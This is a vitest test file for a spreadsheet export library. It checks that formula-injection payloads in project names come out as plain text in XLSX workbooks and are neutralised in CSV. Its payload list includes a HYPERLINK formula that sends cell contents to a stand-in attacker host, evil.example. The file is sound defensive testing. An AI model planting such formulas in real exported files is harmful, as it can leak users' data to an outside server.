import { afterAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { buildProjectViews, type Project } from '@jixiao/core';
import { renderBatchXlsx, renderCsv, renderXlsx } from '@jixiao/render';
import { makeProject } from '../api/support/make-project';
import { createHardeningCounters, recordHardeningCounters } from './support/record-hardening-counters';

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1', '-1+2', '@SUM(1)'] as const;
const counters = createHardeningCounters();
afterAll(() => recordHardeningCounters('formula-injection', counters));

function hostileProject(payload: string): Project {
  const base = makeProject(payload, { goals: [payload] });
  return { ...base, indicators: base.indicators.map((i, n) => (n === 0 ? { ...i, name: payload } : i)) };
}

async function cellsHolding(bytes: Uint8Array, text: string): Promise<ExcelJS.Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const found: ExcelJS.Cell[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
    const v = cell.value;
    const s = typeof v === 'string' ? v : cell.formula ?? (v && typeof v === 'object' && 'richText' in v ? v.richText.map((r) => r.text).join('') : '');
    if (s.includes(text.replace(/^=/, ''))) found.push(cell);
  })));
  return found;
}

describe('spreadsheet formula injection in names', () => {
  it.each(FORMULAS)('%s is written as text in XLSX (single and batch workbooks)', async (payload) => {
    counters.payloadsTried++;
    const project = hostileProject(payload);
    for (const bytes of [
      await renderXlsx(buildProjectViews('declaration-000', [project]), { refs: [{ id: 'p1', version: 1 }] }),
      await renderBatchXlsx([project, makeProject('普通项目')], 'target-table-002'),
    ]) {
      const cells = await cellsHolding(bytes, payload);
      expect(cells.length).toBeGreaterThan(0);
      for (const cell of cells) {
        expect(cell.formula, cell.address).toBeUndefined();
        expect(typeof cell.value, cell.address).toBe('string');
      }
    }
  });

  it.each(FORMULAS)('%s is neutralised in CSV', (payload) => {
    counters.payloadsTried++;
    const csv = renderCsv(buildProjectViews('declaration-000', [hostileProject(payload)])[0]!);
    const fields = csv.replace(/^\uFEFF/, '').split(/\r\n/).flatMap((line) => line.split(','));
    expect(csv).toContain(`'${payload.replace(/"/g, '""')}`);
    // No field (quoted or not) begins with a character a spreadsheet would evaluate.
    for (const f of fields) expect(f.replace(/^"/, ''), f).not.toMatch(/^[=+\-@]/);
  });
});
